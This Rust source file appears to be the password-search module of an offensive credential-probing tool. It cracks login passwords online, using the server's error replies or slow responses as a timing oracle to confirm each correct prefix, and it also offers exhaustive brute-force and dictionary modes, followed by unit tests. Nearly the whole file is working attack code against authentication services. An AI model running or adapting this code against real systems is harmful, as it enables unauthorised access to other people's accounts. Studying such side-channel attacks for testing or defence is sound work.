//! Length-incremental password search driven by a timing/error oracle.
//!
//! The password is built slot by slot. Only the last slot is varied; when the
//! server answers with the exception sentinel, or an exchange takes longer
//! than the partial-match threshold, the current slots are taken as a correct
//! prefix. The active slot is then frozen and a new one is searched from
//! length 1.

use std::time::{Duration, Instant};

use tracing::{debug, info};

use crate::config::{ProbeConfig, SearchMode, Sentinels, DEFAULT_MAX_LENGTH};
use crate::error::{ProbeError, Result};
use crate::modules::creds::connection::Connection;
use crate::modules::creds::generators::{
    Candidates, Charset, DictionaryGenerator, ExhaustiveGenerator,
};
use crate::modules::creds::message::LoginAttempt;
use crate::modules::creds::utils::ProbeStats;

const PLACEHOLDER_SLOT: &str = " ";

/// The password under construction: frozen prefix slots plus one active slot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Candidate {
    slots: Vec<String>,
}

impl Candidate {
    pub fn new() -> Self {
        Self {
            slots: vec![PLACEHOLDER_SLOT.to_string()],
        }
    }

    /// Overwrite the active (last) slot.
    pub fn set_active(&mut self, value: String) {
        if let Some(last) = self.slots.last_mut() {
            *last = value;
        }
    }

    /// Freeze every current slot and open a new placeholder slot.
    pub fn freeze_and_extend(&mut self) {
        self.slots.push(PLACEHOLDER_SLOT.to_string());
    }

    pub fn slots(&self) -> &[String] {
        &self.slots
    }

    /// The frozen slots, concatenated.
    pub fn prefix(&self) -> String {
        self.slots[..self.slots.len() - 1].concat()
    }

    pub fn password(&self) -> String {
        self.slots.concat()
    }
}

impl Default for Candidate {
    fn default() -> Self {
        Self::new()
    }
}

#[derive(Debug, Clone)]
pub struct SearchOptions {
    pub sentinels: Sentinels,
    pub partial_match: Duration,
    pub charset: Charset,
    pub max_length: usize,
    pub max_attempts: Option<u64>,
}

impl SearchOptions {
    pub fn from_config(config: &ProbeConfig) -> Result<Self> {
        Ok(Self {
            sentinels: config.sentinels.clone(),
            partial_match: config.thresholds.partial_match(),
            charset: config.charset.parse()?,
            max_length: config.max_length,
            max_attempts: config.max_attempts,
        })
    }

    fn exhaustive(&self, length: usize) -> ExhaustiveGenerator {
        ExhaustiveGenerator::new(length, self.charset).with_max_length(self.max_length)
    }
}

impl Default for SearchOptions {
    fn default() -> Self {
        Self {
            sentinels: Sentinels::default(),
            partial_match: Duration::from_millis(900),
            charset: Charset::ALL,
            max_length: DEFAULT_MAX_LENGTH,
            max_attempts: None,
        }
    }
}

/// Build the generator for the first slot.
pub fn initial_candidates(
    mode: &SearchMode,
    options: &SearchOptions,
    target: &str,
) -> Result<Candidates> {
    let candidates: Candidates = match mode {
        SearchMode::FixedLength(length) => {
            info!("Brute Force: {}, pwd length: {}", target, length);
            Box::new(options.exhaustive(*length))
        }
        SearchMode::Dictionary(path) => {
            info!("Dict attack: {} with {}", target, path.display());
            Box::new(DictionaryGenerator::from_file(path)?)
        }
        SearchMode::LoginOnly => {
            info!("Brute Force: {} from length 1", target);
            Box::new(options.exhaustive(1))
        }
    };
    Ok(candidates)
}

/// Run the search until the server answers with the success sentinel.
pub async fn find_password(
    connection: &mut Connection,
    login: &str,
    mode: &SearchMode,
    options: &SearchOptions,
    stats: &mut ProbeStats,
) -> Result<String> {
    let generator = initial_candidates(mode, options, &connection.address())?;
    search(connection, login, generator, options, stats).await
}

/// The search loop over an already chosen first-slot generator.
pub async fn search(
    connection: &mut Connection,
    login: &str,
    mut generator: Candidates,
    options: &SearchOptions,
    stats: &mut ProbeStats,
) -> Result<String> {
    let mut candidate = Candidate::new();
    let mut attempts: u64 = 0;

    loop {
        if let Some(limit) = options.max_attempts {
            if attempts >= limit {
                return Err(ProbeError::AttemptLimitReached { limit });
            }
        }
        let Some(next) = generator.next() else {
            return Err(ProbeError::CandidatesExhausted { attempts });
        };
        candidate.set_active(next);
        let password = candidate.password();

        let started = Instant::now();
        let result = connection
            .exchange(&LoginAttempt::new(login, password.as_str()))
            .await?;
        let elapsed = started.elapsed();
        attempts += 1;
        stats.record_password_attempt();

        if result == options.sentinels.success {
            info!("Found password {}", password);
            return Ok(password);
        }

        if result == options.sentinels.exception || elapsed > options.partial_match {
            stats.record_partial_match();
            candidate.freeze_and_extend();
            info!(
                "Password partial match {} ({:.3}s, reply '{}'), searching slot {}",
                candidate.prefix(),
                elapsed.as_secs_f64(),
                result,
                candidate.slots().len()
            );
            generator = Box::new(options.exhaustive(1));
        } else {
            debug!("Rejected {}: {}", password, result);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn candidate_starts_with_one_placeholder_slot() {
        let candidate = Candidate::new();
        assert_eq!(candidate.slots(), &[" ".to_string()]);
        assert_eq!(candidate.prefix(), "");
    }

    #[test]
    fn only_the_last_slot_changes() {
        let mut candidate = Candidate::new();
        candidate.set_active("a".into());
        candidate.freeze_and_extend();
        candidate.set_active("x".into());
        candidate.set_active("b".into());
        assert_eq!(candidate.prefix(), "a");
        assert_eq!(candidate.password(), "ab");

        candidate.freeze_and_extend();
        candidate.set_active("cd".into());
        assert_eq!(candidate.slots(), &["a", "b", "cd"]);
        assert_eq!(candidate.password(), "abcd");
    }

    #[test]
    fn freeze_keeps_previous_password_as_prefix() {
        let mut candidate = Candidate::new();
        candidate.set_active("ab".into());
        let before = candidate.password();
        candidate.freeze_and_extend();
        assert_eq!(candidate.prefix(), before);
        assert_eq!(candidate.slots().len(), 2);
        assert_eq!(candidate.password(), "ab ");
    }

    #[test]
    fn fixed_length_mode_starts_at_length() {
        let options = SearchOptions {
            charset: "0".parse().unwrap(),
            ..SearchOptions::default()
        };
        let mut gen = initial_candidates(&SearchMode::FixedLength(3), &options, "t").unwrap();
        assert_eq!(gen.next().as_deref(), Some("000"));
    }

    #[test]
    fn login_only_mode_starts_at_one() {
        let mut gen =
            initial_candidates(&SearchMode::LoginOnly, &SearchOptions::default(), "t").unwrap();
        assert_eq!(gen.next().as_deref(), Some("a"));
        assert_eq!(gen.next().as_deref(), Some("b"));
    }

    #[test]
    fn dictionary_mode_needs_readable_file() {
        let mode = SearchMode::Dictionary(PathBuf::from("/nonexistent/words.txt"));
        assert!(matches!(
            initial_candidates(&mode, &SearchOptions::default(), "t"),
            Err(ProbeError::Io(_))
        ));
    }

    #[test]
    fn options_reject_bad_charset() {
        let config = ProbeConfig {
            charset: "q".into(),
            ..ProbeConfig::default()
        };
        assert!(matches!(
            SearchOptions::from_config(&config),
            Err(ProbeError::InvalidCharset(_))
        ));
    }
}
